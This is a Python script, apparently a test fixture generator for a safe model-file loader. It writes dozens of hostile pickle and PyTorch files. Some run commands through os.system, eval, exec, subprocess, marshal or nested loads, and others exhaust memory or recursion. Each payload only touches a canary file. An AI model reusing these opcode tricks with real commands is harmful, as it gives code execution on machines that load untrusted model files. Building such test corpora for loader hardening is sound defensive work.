#!/usr/bin/env python3
"""Every hostile payload that a feature pickle could carry, as files.

    hostile_files.py FOLDER            # writes them, NAME.pkl and NAME.pth; all touch FOLDER/canary if anything runs
    hostile_files.py FOLDER --prove    # loads those that run something with Python's own pickle, and prints whose canary came

The second form shows that the payloads are live. Nothing else happens in them than that an empty file is made.
"""

import marshal
import os
import pathlib
import pickle
import subprocess
import sys

if __name__ == "__main__":
    here = pathlib.Path(__file__).resolve()
    sys.dont_write_bytecode = True
    sys.path[:0] = [str(here.parent), str(here.parents[3] / "data")]

import torch_hostile


def text(value):
    """A short text of protocol 4, kept in the memo."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw + b"\x94"


def called(module, name, *arguments):
    """GLOBAL, arguments in text, REDUCE."""
    return f"c{module}\n{name}\n(".encode() + b"".join(f"V{argument}\n".encode() for argument in arguments) + b"tR"


def live(canary):
    """Payloads that make the canary when Python's own pickle loads them."""
    touch, python = f"touch {canary}", f"open({canary!r}, 'w').close()"
    inner = called("os", "system", touch) + b"."
    code = marshal.dumps(compile(python, "payload", "exec"))
    quoted = lambda raw: b"B" + len(raw).to_bytes(4, "little") + raw
    import_os = called("builtins", "__import__", "os")
    return {
        "os-system": inner,
        "posix-system": called("posix", "system", touch) + b".",
        "eval": called("builtins", "eval", python) + b".",
        "exec": called("builtins", "exec", python) + b".",
        "getattr": b"cbuiltins\ngetattr\n(" + import_os + b"Vsystem\ntR(V" + touch.encode() + b"\ntR.",
        "subprocess": b"csubprocess\ncheck_call\n((Vtouch\nV" + canary.encode() + b"\nltR.",
        "importlib": b"cbuiltins\ngetattr\n(" + called("importlib", "import_module", "os") + b"Vsystem\ntR(V" + touch.encode() + b"\ntR.",
        "marshal": b"\x80\x03cbuiltins\nexec\n(cmarshal\nloads\n(" + quoted(code) + b"tRtR.",
        "methodcaller": called("operator", "methodcaller", "system", touch) + b"(" + import_os + b"tR.",
        "nested-loads": b"\x80\x03cpickle\nloads\n(" + quoted(inner) + b"tR.",
        "stack-global": b"\x80\x04" + text("os") + b"0" + text("system") + b"0h\0h\1\x93(V" + touch.encode() + b"\ntR.",
        "dotted": b"\x80\x04" + text("pathlib") + text("os.system") + b"\x93(V" + touch.encode() + b"\ntR.",
        "build-global": b"\x80\x02cpickle\n_Unpickler\n)\x81}V__dict__\nNsb0" + inner,
        "obj": b"(cos\nsystem\nV" + touch.encode() + b"\no.",
        "inst": b"(V" + touch.encode() + b"\nios\nsystem\n.",
        "inst-behind-pop": b"(V" + touch.encode() + b"\nios\nsystem\n0N.",
        "behind-pop": called("os", "system", touch) + b"0N.",
        "dict-value": b"}Vtext\n" + called("os", "system", touch) + b"s.",
        "default-factory": b"ccollections\ndefaultdict\n(" + called("os", "system", touch) + b"tR.",
        "second-pickle-inside": b"\x80\x04]\x94(" + b"N" * 9 + called("os", "system", touch) + b"e.",
    }


def inert(canary):
    """Payloads that would exhaust or confuse a careless reader, or that run something only where PyTorch is."""
    touch = f"touch {canary}"
    laughs = b"\x80\x02}N" + b"2\x86" * 60 + b"Ns."
    lists = b"\x80\x02]q\0" + b"0](h\0h\0h\0h\0h\0h\0h\0h\0h\0h\0eq\0" * 60 + b"0h\0."
    head = b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\n(I0\ntS'b'\ntR(I1\n"
    tail = b"cnumpy\ndtype\n(S'f4'\nI0\nI1\ntR(I3\nS'<'\nNNNI-1\nI-1\nI0\ntbI00\nS'abcd'\ntb."
    return {
        "load-from-bytes": called("torch.storage", "_load_from_bytes", touch) + b".",
        "apply": b"c__builtin__\napply\n(cos\nsystem\n(V" + touch.encode() + b"\nttR.",
        "newobj": b"\x80\x02csubprocess\nPopen\n((Vtouch\nV" + canary.encode() + b"\nlt\x81.",
        "self-list": b"\x80\x02]q\0h\0a.",
        "self-dict": b"\x80\x02}q\0K\1h\0s.",
        "laughs-as-key": laughs,
        "laughs-as-lists": lists,
        "long-memo": b"\x80\2Nr\xff\xff\xff\x7f.",
        "huge-bytes": b"\x80\4\x8e\0\0\0\0\0\1\0\0.",
        "huge-text": b"\x80\4\x8d\0\0\0\0\0\1\0\0.",
        "huge-bytearray": b"\x80\5\x96\0\0\0\0\0\1\0\0.",
        "huge-frame": b"\x80\4\x95" + b"\xff" * 7 + b"\x7fN.",
        "huge-int": b"\x80\2\x8b\0\0\0\x7f" + b"\1" * 99 + b".",
        "huge-shape": head + b"(I1099511627776\nI1099511627776\nt" + tail,
        "negative-shape": head + b"(I-1\nt" + tail,
        "overflowing-shape": head + b"(I4294967296\nI4294967296\nI1\nt" + tail,
        "deep": b"\x80\2N" + b"\x85" * 3_000_000 + b".",
        "many-lists": b"\x80\2(" + b"]" * 3_000_000 + b"l.",
        "second-pickle": pickle.dumps([1], 2) + called("os", "system", touch) + b".",
        "extension": b"\x80\2\x82\1.",
        "persistent": b"\x80\2X\2\0\0\0osQ.",
        "object-scalar": b"cnumpy.core.multiarray\nscalar\n(cnumpy\ndtype\n(S'O'\ntRS'x'\ntR.",
    }


def main():
    folder = pathlib.Path(sys.argv[1])
    canary = str(folder / "canary")
    payloads = live(canary)
    if sys.argv[2:] == ["--prove"]:
        for name in payloads:
            load = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"
            subprocess.run([sys.executable, "-c", load, str(folder / f"{name}.pkl")], capture_output=True)
            if os.path.exists(canary):
                print(name)
                os.remove(canary)
            else:
                sys.exit(f"{name} is not live")
        return
    for name, data in {**payloads, **inert(canary)}.items():
        (folder / f"{name}.pkl").write_bytes(data)
    torch_hostile.canary = canary
    for name in torch_hostile.KINDS:
        (folder / f"{name}.pth").write_bytes(torch_hostile.make(name))


if __name__ == "__main__":
    main()
